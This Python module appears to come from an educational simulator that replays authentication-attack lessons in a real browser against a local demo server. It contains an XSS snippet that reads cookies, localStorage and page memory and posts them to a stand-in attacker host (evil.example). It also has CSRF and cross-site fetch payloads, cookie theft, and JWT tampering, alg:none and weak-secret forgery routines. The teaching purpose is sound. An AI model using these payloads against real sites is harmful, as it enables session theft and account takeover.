"""What a real browser does for each lesson step, and what the run observed.

`run_live` plays a lesson's steps against a `RealBrowser` (Qt WebEngine in the app; the
protocol keeps this module Qt-free) and a `LiveServer`: the page's own script logs in
and calls the API, evil.example's page really submits its form or calls fetch, injected
script really reads the page, and the attacker's own machine sends real HTTP requests.
A step that cannot be done for real (Chromium's cookie clock cannot be fast-forwarded;
an off-the-record profile cannot be restarted) is said so in a `Finding`, never faked.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, Protocol
from urllib.parse import urlencode

from authflow.simulator.actions.attacker_network import credential_headers
from authflow.simulator.actions.attacks_from_machine import claims_now
from authflow.simulator.actions.catalogue import ACTIONS, check_args
from authflow.simulator.attacker.forgery import (
    WEAK_SECRETS,
    crack_jwt,
    crack_sid,
    hs256_sign,
    json_segment,
    tamper_jwt,
    tamper_sid,
)
from authflow.simulator.browser.page_script import TOKEN_KEY, PageScript
from authflow.simulator.live.server import START_PATH, Arrival, LiveServer
from authflow.simulator.server.auth_session import session_signer
from authflow.simulator.trace.trace import Event, Step
from authflow.simulator.web.cookies_out import parse_cookie_header
from authflow.simulator.world.engine import World


class RealBrowser(Protocol):
    """A real browser with two tabs, "app" and "attacker", sharing one profile."""

    def call(self, function: str, *args: Any) -> Any:
        """Run the app page's `authflow.<function>(*args)` and return what it resolved to."""

    def script(self, tab: str, source: str) -> Any:
        """Run `source` (an expression giving a promise) in a tab; its resolved value."""

    def navigate(self, tab: str, url: str, until: Callable[[], bool] | None = None) -> None:
        """Load `url` in a tab, and wait until it has loaded and `until()` holds."""

    def settle(self) -> None:
        """Wait until every request the browser made has been observed to its end."""

    def cookies(self) -> list[dict[str, Any]]:
        """The real cookie jar: name, value, domain, path, httpOnly, secure."""


@dataclass(frozen=True, slots=True)
class Finding:
    """Something the run established outside a request: an attack's result, a page
    change, a step not done for real, or events of the rules' world (a restart)."""

    order: int
    step: int
    kind: str
    """"attack", "storage", "note" or "world"."""
    label: str
    explain: str
    detail: Mapping[str, Any] = field(default_factory=dict)
    events: tuple[Event, ...] = ()


@dataclass(slots=True)
class LiveRun:
    """Everything observed in one live run, joined into a Trace by join.py."""

    steps: tuple[Step, ...]
    server: LiveServer
    findings: list[Finding] = field(default_factory=list)
    loot: dict[str, str] = field(default_factory=dict)
    done: int = 0
    """Steps finished so far."""


_XSS_READ = """(async () => {
  const memory = Object.assign({}, window.authflowMemory || {});
  const local = {};
  for (let i = 0; i < localStorage.length; i++) {
    const k = localStorage.key(i); local[k] = localStorage.getItem(k);
  }
  return {document_cookie: document.cookie, local: local, memory: memory};
})()"""

_XSS_SEND = """(async () => {
  await fetch(%s + "/collect", {method: "POST", mode: "no-cors",
    headers: {"Content-Type": "text/plain"}, body: %s});
  return true;
})()"""

_CROSS_FETCH = """(async () => {
  const init = {method: %s, credentials: "include", headers: %s};
  if (%s !== null) init.body = %s;
  try {
    const r = await fetch(%s, init);
    let body = null;
    try { body = await r.json(); } catch (e) { body = null; }
    return {sent: true, readable: true, status: r.status, body: body};
  } catch (e) {
    return {sent: null, readable: false, status: null, error: String(e)};
  }
})()"""

_IMAGE = """new Promise((resolve) => {
  const img = new Image();
  img.onload = () => resolve({loaded: true});
  img.onerror = () => resolve({loaded: false});
  img.src = %s;
})"""


def _js(value: Any) -> str:
    return json.dumps(value)


class _Run:
    def __init__(self, run: LiveRun, browser: RealBrowser) -> None:
        self.run = run
        self.server = run.server
        self.browser = browser
        self.sites = run.server.sites
        self.step = 0

    # -- records ----------------------------------------------------------------------------
    def find(
        self,
        kind: str,
        label: str,
        explain: str,
        detail: Mapping[str, Any] | None = None,
        events: tuple[Event, ...] = (),
    ) -> None:
        order = next(self.server.order)
        self.run.findings.append(
            Finding(order, self.step, kind, label, explain, dict(detail or {}), events)
        )

    def not_real(self, what: str, instead: str) -> None:
        self.find(
            "note",
            "not done for real",
            f"{what} {instead}",
            {"text": "not done for real", "live": "not-done", "reason": what},
        )

    def attack(self, attack: str, label: str, explain: str, **detail: Any) -> None:
        self.find("attack", label, explain, {"attack": attack, **detail})

    def take(self, stolen: Mapping[str, str]) -> None:
        self.run.loot.update(stolen)

    def drain_page(self) -> None:
        for entry in self.browser.script("app", "Promise.resolve(authflow.drain())") or []:
            area, action = str(entry.get("area")), str(entry.get("action"))
            key, value = entry.get("key"), entry.get("value")
            if area == "page":
                shown = f"Signed in as {value}" if value else "the login form"
                self.find(
                    "page",
                    f"page shows {shown}",
                    f"The real page now shows {shown}.",
                    {"text": f"page shows {shown}", "signed_in_as": value},
                )
            else:
                where = "localStorage" if area == "localStorage" else "page memory"
                self.find(
                    "storage",
                    f"{where}: {action} {key or ''}".strip(),
                    f"The real page's script: {where} {action} {key or ''}.".replace(" .", "."),
                    {"area": area, "action": action, "key": key, "value": value},
                )

    # -- the world's own requests -----------------------------------------------------------
    def machine(self, method: str, path: str, headers: list[tuple[str, str]], body: Any) -> Arrival:
        return self.server.machine_request(method, path, headers, body)

    def verdict_reasons(self, arrival: Arrival | None) -> list[str]:
        if arrival is None:
            return []
        return [
            f"{e.detail['check']}: {e.detail['reason']}"
            for e in arrival.events
            if e.kind == "verdict"
        ]

    def last_arrival(self, method: str, path: str, since: int) -> Arrival | None:
        found = [
            a
            for a in self.server.arrivals_since(since)
            if a.site == "app" and a.method == method and a.path == path
        ]
        return found[-1] if found else None

    # -- the steps --------------------------------------------------------------------------
    def do(self, action: str, args: Mapping[str, Any]) -> None:
        handler = getattr(self, f"_{action}", None)
        if handler is None:
            self.not_real(
                f"The action {action!r} has no live counterpart yet.", "Nothing was done."
            )
            return
        handler(args)

    def _login(self, args: Mapping[str, Any]) -> None:
        world = self.server.world
        remember = bool(args["remember_me"]) or world.config.flag("remember_me")
        self.browser.call("login", args["user"], args["password"], remember)

    def _profile(self, args: Mapping[str, Any]) -> None:
        self.browser.call("api", "GET", "/api/profile", None)

    def _transfer(self, args: Mapping[str, Any]) -> None:
        self.browser.call(
            "api", "POST", "/api/transfer", {"amount": args["amount"], "to": args["to"]}
        )

    def _logout(self, args: Mapping[str, Any]) -> None:
        self.browser.call("logout")

    def _refresh(self, args: Mapping[str, Any]) -> None:
        self.browser.call("refresh")

    def _reload(self, args: Mapping[str, Any]) -> None:
        self.browser.navigate("app", self.sites.app + "/")
        self.browser.call("onLoad")

    def _restart_browser(self, args: Mapping[str, Any]) -> None:
        self.not_real(
            "A browser restart cannot be done for real here: the run's off-the-record "
            "profile would lose every cookie, not only the session cookies.",
            "The page is reloaded instead; session cookies stay in the real jar.",
        )
        self._reload(args)

    def _wait(self, args: Mapping[str, Any]) -> None:
        seconds = args["seconds"]
        events = self.server.on_world(lambda w: w.clock.advance(seconds))
        self.find("world", f"{seconds} s later", "", {}, events)
        self.not_real(
            f"Only the server's clock moved {seconds} s: Chromium judges cookie expiry by "
            "the real clock, which cannot be fast-forwarded.",
            "Cookies the simulated browser lets expire are still in the real jar.",
        )

    def _restart_server(self, args: Mapping[str, Any]) -> None:
        def restart(world: World) -> None:
            ACTIONS["restart_server"].run(world, PageScript(world), args)

        self.find("world", "server restart", "", {}, self.server.on_world(restart))

    def _change_password(self, args: Mapping[str, Any]) -> None:
        self.browser.call("changePassword", args["old_password"], args["new_password"])

    def _ban(self, args: Mapping[str, Any]) -> None:
        def ban(world: World) -> None:
            ACTIONS["ban"].run(world, PageScript(world), args)

        self.find("world", "ban", "", {}, self.server.on_world(ban))

    def _send(self, args: Mapping[str, Any]) -> None:
        headers = [(str(h[0]), str(h[1])) for h in args["headers"]]
        method = str(args["method"]).upper() or "GET"
        path = str(args["path"]) if str(args["path"]).startswith("/") else "/" + str(args["path"])
        if args["from"] == "attacker":
            self.machine(method, path, headers, args["body"])
            return
        body = args["body"]
        init = {"method": method, "headers": dict(headers), "credentials": "omit"}
        source = (
            f"(async () => {{ const init = {_js(init)}; const b = {_js(body)};"
            " if (b !== null) init.body = JSON.stringify(b);"
            f" const r = await fetch({_js(path)}, init); return r.status; }})()"
        )
        self.browser.script("app", source)

    # -- attacks ----------------------------------------------------------------------------
    def _xss_steal(self, args: Mapping[str, Any]) -> None:
        read = self.browser.script("app", _XSS_READ) or {}
        doc_cookie = str(read.get("document_cookie", ""))
        local = {str(k): str(v) for k, v in dict(read.get("local") or {}).items()}
        memory = {str(k): str(v) for k, v in dict(read.get("memory") or {}).items()}
        stolen = dict(parse_cookie_header(doc_cookie))
        stolen.update(local)
        stolen.update(memory)
        minted = self._xss_refresh() if self.server.mode == "hybrid" else None
        if minted is not None:
            stolen[TOKEN_KEY] = minted
        payload = json.dumps(stolen) if stolen else "null"
        self.browser.script("app", _XSS_SEND % (_js(self.sites.attacker), _js(payload)))
        self.take(stolen)
        visible = set(parse_cookie_header(doc_cookie))
        hidden = [
            {"name": c["name"], "reason": "HttpOnly: hidden from script"}
            for c in self.browser.cookies()
            if c.get("httpOnly") and c["name"] not in visible and c.get("domain") == "127.0.0.1"
        ]
        names = ", ".join(stolen) if stolen else "nothing"
        self.attack(
            "xss_steal",
            f"XSS: stole {names}",
            f"The injected script really read document.cookie ({doc_cookie or 'empty'}), "
            f"localStorage ({', '.join(local) or 'empty'}) and page memory "
            f"({', '.join(memory) or 'empty'}), and sent them to evil.example.",
            attempted="read document.cookie, localStorage and page memory in the real page",
            stolen=stolen,
            success=bool(stolen),
            document_cookie=doc_cookie,
            hidden=hidden,
            local_storage=local,
            memory=memory,
        )

    def _xss_refresh(self) -> str | None:
        """Hybrid: the injected script POSTs /auth/refresh from the real page, as the
        simulated one does, and reads the fresh access token from the answer."""
        since = next(self.server.order)
        self.browser.call("fetch", "POST", "/auth/refresh", None)
        self.browser.settle()
        arrival = self.last_arrival("POST", "/auth/refresh", since)
        answer = None if arrival is None else arrival.answer
        body = None if answer is None else answer.body
        if answer is not None and answer.status == 200 and isinstance(body, dict):
            token = body.get(TOKEN_KEY)
            return token if isinstance(token, str) else None
        return None

    def _xss_request(self, args: Mapping[str, Any]) -> None:
        since = next(self.server.order)
        body = {"amount": args["amount"], "to": args["to"]}
        self.browser.call("fetch", "POST", "/api/transfer", body)
        self.browser.settle()
        arrival = self.last_arrival("POST", "/api/transfer", since)
        status = None if arrival is None else arrival.status
        self.attack(
            "xss_request",
            f"XSS: on-page transfer → {status or 'never sent'}",
            f"The injected script's transfer from the real page got {status or 'no answer'}.",
            attempted=f"from the victim's page, POST /api/transfer {body}",
            stolen={},
            success=status == 200,
            status=status,
            reasons=self.verdict_reasons(arrival),
        )

    def _csrf(self, args: Mapping[str, Any]) -> None:
        since = next(self.server.order)
        query = urlencode({"amount": args["amount"], "to": args["to"]})

        def arrived() -> bool:
            return self.last_arrival("POST", "/api/transfer", since) is not None

        self.browser.navigate("attacker", f"{self.sites.attacker}/csrf?{query}", arrived)
        self.browser.settle()
        arrival = self.last_arrival("POST", "/api/transfer", since)
        status = None if arrival is None else arrival.status
        self.attack(
            "csrf",
            f"CSRF: forged transfer → {status or 'never sent'}",
            "evil.example's form really posted to the app in another tab: "
            f"{status or 'no answer'}.",
            attempted="cross-site form POST /api/transfer from evil.example",
            stolen={},
            success=status == 200,
            status=status,
            reasons=self.verdict_reasons(arrival),
        )

    def _cross_site_fetch(self, args: Mapping[str, Any]) -> None:
        since = next(self.server.order)
        kind = str(args["kind"])
        method = "GET" if kind == "subresource" else str(args["method"]).upper()
        url = self.sites.app + str(args["path"])
        self.browser.navigate("attacker", self.sites.attacker + "/")
        if kind == "subresource":
            self.browser.script("attacker", _IMAGE % _js(url))
            result: dict[str, Any] = {"sent": True, "readable": False, "status": None}
        else:
            headers: dict[str, str] = {}
            body = None
            if args["authorization"]:
                token = self.run.loot.get(TOKEN_KEY)
                headers["Authorization"] = f"Bearer {token or 'guessed-token'}"
            if method == "POST":
                headers = {"Content-Type": "text/plain", **headers}
                body = json.dumps({"amount": 1000, "to": "mallory"})
            source = _CROSS_FETCH % (
                _js(method),
                _js(headers),
                _js(body),
                _js(body),
                _js(url),
            )
            result = dict(self.browser.script("attacker", source) or {})
        self.browser.settle()
        arrival = self.last_arrival(method, str(args["path"]), since)
        status = None if arrival is None else arrival.status
        readable = bool(result.get("readable"))
        read = result.get("body") if readable else None
        stolen: dict[str, str] = {}
        if isinstance(read, dict) and isinstance(read.get(TOKEN_KEY), str):
            stolen[TOKEN_KEY] = read[TOKEN_KEY]
        self.take(stolen)
        ok = status == 200 and (readable or method != "GET")
        if arrival is None:
            explain = "Chromium never sent the request to the app."
        else:
            explain = (
                f"The app answered {status}; the script "
                f"{'could' if readable else 'could not'} read the answer."
            )
        self.attack(
            "cross_site_fetch",
            f"Cross-site {kind}: {status or 'never sent'}",
            explain,
            attempted=f"{method} {args['path']} from evil.example as a {kind}",
            stolen=stolen,
            success=ok,
            status=status,
            sent=arrival is not None,
            readable=readable,
            read=read,
            reasons=self.verdict_reasons(arrival),
            error=result.get("error"),
        )

    def _steal(self, args: Mapping[str, Any]) -> None:
        stolen = {c["name"]: c["value"] for c in self.browser.cookies() if c.get("value")}
        read = self.browser.script("app", _XSS_READ) or {}
        stolen.update({str(k): str(v) for k, v in dict(read.get("local") or {}).items()})
        stolen.update({str(k): str(v) for k, v in dict(read.get("memory") or {}).items()})
        self.take(stolen)
        self.attack(
            "steal",
            "Stolen: " + (", ".join(stolen) if stolen else "nothing"),
            "The real browser's cookie store, localStorage and page memory, copied as "
            "malware would copy them.",
            attempted="copy every cookie, localStorage entry and page-memory value",
            stolen=stolen,
            success=bool(stolen),
        )

    def _held(self) -> dict[str, str]:
        return {k: self.run.loot[k] for k in ("sid", TOKEN_KEY) if k in self.run.loot}

    def _replay_with(self, attack: str, creds: Mapping[str, str], method: str, path: str) -> None:
        headers = credential_headers(self.server.world, creds)
        body = (
            {"amount": 1000, "to": "mallory"}
            if method == "POST" and path == "/api/transfer"
            else None
        )
        arrival = self.machine(method, path, headers, body)
        reasons = self.verdict_reasons(arrival)
        self.attack(
            attack,
            f"{attack.replace('_', ' ').capitalize()} ({', '.join(creds) or 'no credential'})"
            f" → {arrival.status}",
            f"The attacker's own machine sent a real request: {arrival.status}.",
            attempted=f"{method} {path} from the attacker's machine",
            stolen={},
            success=arrival.status == 200,
            status=arrival.status,
            reasons=reasons,
            reason=reasons[-1].partition(": ")[2] if reasons else "",
        )

    def _replay(self, args: Mapping[str, Any]) -> None:
        self._replay_with("replay", self._held(), str(args["method"]).upper(), str(args["path"]))

    def _sample(self) -> dict[str, str]:
        key = "sid" if self.server.mode == "session" else TOKEN_KEY
        if key in self.run.loot:
            return {key: self.run.loot[key]}
        arrival = self.machine(
            "POST", "/auth/login", [], {"username": "bob", "password": "builder"}
        )
        found: dict[str, str] = {}
        answer = arrival.answer
        if answer is not None and answer.status == 200:
            for line in answer.set_cookies():
                name, _, rest = line.partition("=")
                if name.strip() == key:
                    found[key] = rest.split(";", 1)[0]
            if isinstance(answer.body, dict) and isinstance(answer.body.get(TOKEN_KEY), str):
                found[TOKEN_KEY] = answer.body[TOKEN_KEY]
        return {key: found[key]} if key in found else {}

    def _tamper(self, args: Mapping[str, Any]) -> None:
        creds = self._sample()
        if "sid" in creds:
            changed = {"sid": tamper_sid(creds["sid"])}
        elif TOKEN_KEY in creds:
            changed = {
                TOKEN_KEY: tamper_jwt(creds[TOKEN_KEY], str(args["claim"]), str(args["value"]))
            }
        else:
            changed = {}
        self._replay_with("tamper", changed, "GET", "/api/profile")

    def _forge_none(self, args: Mapping[str, Any]) -> None:
        world = self.server.world
        if self.server.mode == "session":
            forged = {"sid": world.entropy.token_hex(16)}
        else:
            header = json_segment({"alg": "none", "typ": "JWT"})
            claims = claims_now(world, str(args["user"]), str(args["role"]))
            forged = {TOKEN_KEY: f"{header}.{json_segment(claims)}."}
        self._replay_with("forge_none", forged, "GET", "/api/profile")

    def _forge_weak(self, args: Mapping[str, Any]) -> None:
        world = self.server.world
        sample = self._sample()
        forged: dict[str, str] = {}
        if "sid" in sample:
            secret, _ = crack_sid(sample["sid"])
            key = secret or WEAK_SECRETS[0]
            forged = {"sid": session_signer(key).sign(world.entropy.token_hex(16)).decode()}
        elif TOKEN_KEY in sample:
            secret, _ = crack_jwt(sample[TOKEN_KEY])
            key = secret or WEAK_SECRETS[0]
            header = json_segment({"alg": "HS256", "typ": "JWT"})
            payload = json_segment(claims_now(world, str(args["user"]), str(args["role"])))
            forged = {TOKEN_KEY: f"{header}.{payload}.{hs256_sign(f'{header}.{payload}', key)}"}
        self._replay_with("forge_weak", forged, "GET", "/api/profile")

    def _refresh_reuse(self, args: Mapping[str, Any]) -> None:
        token = self.run.loot.get("refresh")
        headers = [("Cookie", f"refresh={token}")] if token else []
        arrival = self.machine("POST", "/auth/refresh", headers, None)
        answer = arrival.answer
        gained: dict[str, str] = {}
        if answer is not None and answer.status == 200:
            for line in answer.set_cookies():
                name, _, rest = line.partition("=")
                if name.strip() == "refresh" and "Max-Age=0" not in line:
                    gained["refresh"] = rest.split(";", 1)[0]
            if isinstance(answer.body, dict) and isinstance(answer.body.get(TOKEN_KEY), str):
                gained[TOKEN_KEY] = answer.body[TOKEN_KEY]
        self.take(gained)
        reasons = self.verdict_reasons(arrival)
        self.attack(
            "refresh_reuse",
            f"Refresh with stolen token → {arrival.status}",
            f"The attacker's own machine presented the stolen refresh token: {arrival.status}.",
            attempted="POST /auth/refresh from the attacker's machine",
            stolen=gained,
            success=arrival.status == 200,
            status=arrival.status,
            reasons=reasons,
            reason=reasons[-1].partition(": ")[2] if reasons else "",
        )


def run_live(
    steps: Sequence[Step],
    server: LiveServer,
    browser: RealBrowser,
    on_step: Callable[[LiveRun], object] | None = None,
) -> LiveRun:
    """Play `steps` in `browser` against `server` (already started). `on_step` is called
    after every step with the run so far (the window shows it as it comes)."""
    run = LiveRun(tuple(steps), server)
    player = _Run(run, browser)
    server.step = player.step = -1
    browser.navigate("app", server.sites.app + START_PATH)
    browser.settle()
    for i, step in enumerate(steps):
        args = check_args(step.action, step.args)
        with server.lock:
            server.step = player.step = i
        player.find("step", step.action, step.narration, {"action": step.action, "args": args})
        player.do(step.action, args)
        browser.settle()
        player.drain_page()
        run.done = i + 1
        if on_step is not None:
            on_step(run)
    return run
